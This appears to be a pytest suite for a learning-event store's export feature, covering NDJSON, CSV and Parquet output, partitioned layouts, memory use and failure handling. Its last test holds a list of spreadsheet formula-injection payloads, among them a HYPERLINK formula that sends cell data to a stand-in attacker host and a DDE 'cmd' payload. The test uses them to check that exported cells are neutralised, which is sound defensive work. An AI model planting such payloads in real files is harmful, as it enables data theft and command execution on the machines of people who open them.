"""Exports: the same rows as the query in every format, Parquet that pyarrow and DuckDB read
alike, a date-partitioned layout, and memory that does not grow with the number of events."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import httpx
import orjson
import pyarrow.parquet as pq
import pytest
from sqlalchemy import text
from tests.conftest import Client, start_server
from tests.fixtures.events import bulk_insert, generated_envelopes
from tests.fixtures.payloads import canvas_event, envelope
from tests.fixtures.server import run_cli

from caliper_store.query.formats import export_columns
from caliper_store.storage import Store

NOW = "2024-01-01T00:00:00.000000Z"
GROUP = "https://caliper-mapping.cloudbb.blackboard.com/v1/sites/s1/courses/k2"


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def api_events(client: Client, key: str, params: dict[str, str]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    query = {**params, "limit": "1000", "order": "asc", "raw": "true"}
    while True:
        page = orjson.loads(
            client.http.get("/api/events", params=query, headers=bearer(key)).content
        )
        found.extend(page["events"])
        if page["next_cursor"] is None:
            return found
        query["cursor"] = page["next_cursor"]


def epoch_us(text: str) -> int:
    return int(datetime.fromisoformat(text).timestamp() * 1_000_000)


@pytest.fixture
def reader(client: Client, store: Store) -> str:
    key, _ = store.keys.create(label="analyst", now=NOW, scopes=("read",))
    for body in generated_envelopes(400, seed=11):
        assert client.post(body).status_code == 200
    return key


def test_every_format_holds_the_rows_the_query_returns(
    client: Client, reader: str, tmp_path: Path
) -> None:
    params = {"groupId": GROUP, "since": "2024-03-05", "until": "2024-03-25"}
    expected = api_events(client, reader, params)
    assert 20 < len(expected) < 400
    files = {}
    for name in ("ndjson", "csv", "parquet"):
        response = client.http.get(
            "/api/export", params={**params, "format": name}, headers=bearer(reader)
        )
        assert response.status_code == 200, response.text
        files[name] = tmp_path / f"events.{name}"
        files[name].write_bytes(response.content)

    lines = [orjson.loads(line) for line in files["ndjson"].read_bytes().splitlines()]
    assert lines == expected

    with files["csv"].open(newline="", encoding="utf-8") as text:
        rows = list(csv.DictReader(text))
    assert list(rows[0]) == list(export_columns(with_raw=True))
    assert [row["event_id"] for row in rows] == [event["event_id"] for event in expected]
    assert [orjson.loads(row["raw"]) for row in rows] == [event["raw"] for event in expected]
    assert [row["group_id"] for row in rows] == [GROUP] * len(expected)

    table = pq.read_table(files["parquet"])
    assert table.column_names == list(export_columns(with_raw=True))
    arrow_rows = table.to_pylist()
    assert [row["seq"] for row in arrow_rows] == [event["seq"] for event in expected]
    assert [orjson.loads(row["raw"]) for row in arrow_rows] == [event["raw"] for event in expected]
    by_duckdb = (
        duckdb.connect()
        .execute(
            f"SELECT seq, event_id, actor_id, event_type, api_key_id, is_extension, "
            f"epoch_us(event_time) AS t, raw FROM read_parquet('{files['parquet']}') ORDER BY t, seq"
        )
        .fetchall()
    )
    assert by_duckdb == [
        (
            event["seq"],
            event["event_id"],
            event["actor_id"],
            event["event_type"],
            event["api_key_id"],
            event["is_extension"],
            epoch_us(event["event_time"]),
            orjson.dumps(event["raw"]).decode(),
        )
        for event in expected
    ]


def test_export_without_raw_and_an_empty_export_are_valid_files(
    client: Client, reader: str
) -> None:
    response = client.http.get(
        "/api/export", params={"format": "parquet", "raw": "false"}, headers=bearer(reader)
    )
    table = pq.read_table(io.BytesIO(response.content))
    assert "raw" not in table.column_names
    assert table.num_rows == 400
    empty = client.http.get(
        "/api/export", params={"format": "parquet", "actorId": "nobody"}, headers=bearer(reader)
    )
    assert pq.read_table(io.BytesIO(empty.content)).num_rows == 0
    csv_empty = client.http.get(
        "/api/export", params={"format": "csv", "actorId": "nobody"}, headers=bearer(reader)
    )
    assert csv_empty.text.count("\n") == 1
    assert response.headers["content-disposition"] == 'attachment; filename="events.parquet"'


def test_cli_writes_a_date_partitioned_layout_that_duckdb_reads_as_is(
    client: Client, reader: str, database_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "lake"
    done = run_cli(
        "export",
        "--format",
        "parquet",
        "--partition-by",
        "day",
        "--output",
        str(out),
        "--database",
        database_url,
        env={"CALIPER_STORE_EXPORT_FILE_EVENTS": "7"},
    )
    assert done.returncode == 0, done.stderr
    files = sorted(out.rglob("*.parquet"))
    assert all(
        re.fullmatch(r"dt=2024-03-\d\d/part-\d{5}\.parquet", str(f.relative_to(out))) for f in files
    )
    assert not list(out.rglob(".*")), "a temporary file was left behind"
    days = {f.parent.name for f in files}
    assert len(files) > len(days), "a day of more than 7 events should span several part files"
    counted = (
        duckdb.connect()
        .execute(
            f"SELECT dt, count(*) FROM read_parquet('{out}/**/*.parquet', hive_partitioning = true) "
            "GROUP BY dt ORDER BY dt"
        )
        .fetchall()
    )
    expected: dict[str, int] = {}
    for event in api_events(client, reader, {}):
        day = event["event_time"][:10]
        expected[day] = expected.get(day, 0) + 1
    assert [(str(day), n) for day, n in counted] == sorted(expected.items())
    again = run_cli(
        "export",
        "--format",
        "parquet",
        "--partition-by",
        "day",
        "--output",
        str(out),
        "--database",
        database_url,
    )
    assert again.returncode != 0
    assert "not an empty folder" in again.stderr


def test_cli_export_to_a_file_matches_the_api(
    client: Client, reader: str, database_url: str, tmp_path: Path
) -> None:
    target = tmp_path / "course.ndjson"
    done = run_cli(
        "export",
        "--group-id",
        GROUP,
        "--output",
        str(target),
        "--progress",
        "--database",
        database_url,
    )
    assert done.returncode == 0, done.stderr
    expected = api_events(client, reader, {"groupId": GROUP})
    assert [orjson.loads(line) for line in target.read_bytes().splitlines()] == expected
    assert f"{len(expected)} events" in done.stderr


PEAK_RSS = (
    "import resource, subprocess, sys\n"
    "subprocess.run(sys.argv[1:], check=True, stdout=subprocess.DEVNULL)\n"
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
)


def export_peak_rss_kib(database_url: str, export_format: str, *filters: str) -> int:
    """Peak RSS of a `caliper-store export` process (the only child of a fresh wrapper)."""
    measured = subprocess.run(
        [
            sys.executable,
            "-c",
            PEAK_RSS,
            sys.executable,
            "-m",
            "caliper_store",
            "export",
            "--format",
            export_format,
            "--database",
            database_url,
            *filters,
        ],
        capture_output=True,
        text=True,
        check=True,
        timeout=600,
    )
    return int(measured.stdout.strip())


# Enough that memory in proportion to the result (~200 MB of raw JSON) would stand out; more
# only lengthens the suite (a million took 3-4 minutes a backend on a slow CI machine).
MANY_EXPORTED = 500_000
FEW_EXPORTED = 10_000


def test_memory_stays_flat_exporting_half_a_million_events(store: Store, database_url: str) -> None:
    bulk_insert(store, MANY_EXPORTED)
    assert store.events.count(()) == MANY_EXPORTED
    # The bulk rows spread evenly over 30 days from 2024-01-01: the first FEW_EXPORTED end here.
    minutes = 30 * 24 * 60 * FEW_EXPORTED // MANY_EXPORTED
    small = ("--until", f"2024-01-01T{minutes // 60:02d}:{minutes % 60:02d}:00Z")
    for export_format in ("parquet", "ndjson"):
        few = export_peak_rss_kib(database_url, export_format, *small)
        many = export_peak_rss_kib(database_url, export_format)
        # Independent of the row count: all of them may cost one batch and one row group more
        # than the few, never memory in proportion to the result.
        assert many - few < 96 * 1024, (export_format, few, many)
        assert many < 320 * 1024, (export_format, many)


def move_events_table(store: Store, *, is_away: bool) -> None:
    """Make the events table vanish (or come back) under a running server: a database failure.

    On SQLite that is the first segment, renamed without the events view following it.
    """
    table = store.plain_rows_table().name
    old, new = (table, f"{table}_away") if is_away else (f"{table}_away", table)
    with store.engine.begin() as connection:
        is_sqlite = connection.dialect.name == "sqlite"
        if is_sqlite:
            connection.execute(text("PRAGMA legacy_alter_table = ON"))
        connection.execute(text(f"ALTER TABLE {old} RENAME TO {new}"))
        if is_sqlite:
            connection.execute(text("PRAGMA legacy_alter_table = OFF"))


def test_a_database_failure_before_the_first_byte_answers_503_not_a_cut_200(
    client: Client, reader: str, store: Store
) -> None:
    move_events_table(store, is_away=True)
    try:
        for path, params in (("/api/export", {"format": "csv"}), ("/api/events", {})):
            answer = client.http.get(path, params=params, headers=bearer(reader))
            assert answer.status_code == 503, answer.text
            assert answer.headers["content-type"] == "application/problem+json"
            assert int(answer.headers["retry-after"]) >= 1
    finally:
        move_events_table(store, is_away=False)
    assert client.http.get("/api/export", headers=bearer(reader)).status_code == 200
    log = client.server.log()
    assert "Traceback" not in log, log
    assert log.count("reading events failed") == 2, log


def test_a_failure_after_the_first_byte_cuts_the_connection_and_is_logged_once(
    tmp_path: Path, database_url: str, store: Store
) -> None:
    bulk_insert(store, 50_000)
    reader, _ = store.keys.create(label="analyst", now=NOW, scopes=("read",))
    # Small batches: the file is many reads, and far more than the socket buffers hold, so the
    # server is still reading batches when the table goes away.
    server = start_server(tmp_path, database_url, "--export-batch-events", "200")
    try:
        with (
            httpx.Client(base_url=server.base_url, timeout=60) as http,
            http.stream("GET", "/api/export", headers=bearer(reader)) as answer,
        ):
            assert answer.status_code == 200
            chunks = answer.iter_bytes()
            assert next(chunks)
            move_events_table(store, is_away=True)
            with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
                b"".join(chunks)
    finally:
        move_events_table(store, is_away=False)
        assert server.stop(), server.log()
    log = server.log()
    assert log.count("export of /api/export cut after") == 1, log
    assert log.count("reading events failed") == 1, log
    assert "Traceback" not in log, log


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_exports_quote_cells_a_spreadsheet_would_run_as_formulas(
    client: Client, store: Store, database_url: str, tmp_path: Path
) -> None:
    reader, _ = store.keys.create(label="analyst", now=NOW, scopes=("read",))
    sent = []
    for formula in FORMULAS:
        event = canvas_event()
        event["extensions"]["com.instructure.canvas"]["user_sis_id"] = formula
        sent.append(event)
    assert client.post(envelope(sent)).status_code == 200
    over_http = client.http.get("/api/export", params={"format": "csv"}, headers=bearer(reader))
    assert over_http.status_code == 200
    target = tmp_path / "events.csv"
    done = run_cli("export", "--format", "csv", "-o", str(target), "--database", database_url)
    assert done.returncode == 0, done.stderr
    for text_form in (over_http.content.decode(), target.read_bytes().decode()):
        rows = list(csv.DictReader(io.StringIO(text_form, newline="")))
        by_id = {row["event_id"]: row for row in rows}
        for event, formula in zip(sent, FORMULAS, strict=True):
            row = by_id[event["id"]]
            assert row["actor_external_id"] == "'" + formula
            # The raw column is the event as sent, JSON text that starts with "{".
            assert orjson.loads(row["raw"]) == event
            assert row["api_key_id"] == "1"
